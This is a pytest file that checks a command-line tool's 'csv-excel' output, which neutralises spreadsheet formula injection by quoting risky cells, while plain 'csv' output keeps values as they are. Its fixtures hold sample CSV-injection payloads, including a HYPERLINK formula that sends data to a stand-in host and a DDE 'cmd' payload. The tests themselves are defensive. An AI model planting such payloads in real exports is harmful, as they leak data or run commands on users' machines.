"""``--format csv-excel``: CSV for a person to open in a spreadsheet, with the cells that a
spreadsheet would run as formulas neutralised (OWASP, CSV injection); ``csv`` for programs
keeps every value as it is."""

from __future__ import annotations

import csv
import io

import pyoxigraph as ox
import pytest

from positions.output.render import OutputFormat, render, spreadsheet_cell
from positions.sparql.engine import QueryResult
from support import REPO, cli

HOSTILE = ['=HYPERLINK("https://x.example/?leak","source")', "+1+cmd|' /C calc'!A0", "@SUM(A1)"]
SPARQL = (
    "SELECT ?cell WHERE { VALUES ?cell { "
    + " ".join(f'"{v}"' for v in [c.replace('"', '\\"') for c in HOSTILE])
    + ' "-2" "+3.5" "-1+2" "\\tTab" "\\rCR" "plain" "Лавров" } }'
)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),  # a plain number stays a number
        ("+1.5e3", "+1.5e3"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_begins_like_a_formula_gets_a_quote(cell: str, shown: str) -> None:
    assert spreadsheet_cell(cell) == shown


def test_csv_excel_neutralises_formulas_and_reads_back() -> None:
    result = QueryResult(
        kind="select",
        variables=["cell"],
        rows=[{"cell": ox.Literal(value)} for value in [*HOSTILE, "Лавров", "-2"]],
    )
    text = render(result, OutputFormat.csv_excel)
    assert text.startswith('\ufeff"cell"\r\n')  # Excel reads UTF-8 with a byte order mark
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + ["Лавров", "-2"]


def test_the_command_writes_csv_excel_and_csv_stays_as_the_data_is() -> None:
    excel = cli("--kb", str(REPO), "query", "--sparql", SPARQL, "-f", "csv-excel")
    assert excel.exit_code == 0, excel.output
    cells = [r[0] for r in csv.reader(io.StringIO(excel.stdout.removeprefix("\ufeff")))]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) and c != "+3.5"]
    assert "'=HYPERLINK" in excel.stdout and "'-1+2" in excel.stdout and '"-2"' in excel.stdout
    plain = cli("--kb", str(REPO), "query", "--sparql", SPARQL, "-f", "csv")
    assert plain.exit_code == 0, plain.output
    assert '"=HYPERLINK(""https://x.example/?leak"",""source"")"' in plain.stdout
    lines = plain.stdout.splitlines()
    assert "-2" in lines and "@SUM(A1)" in lines and "-1+2" in lines
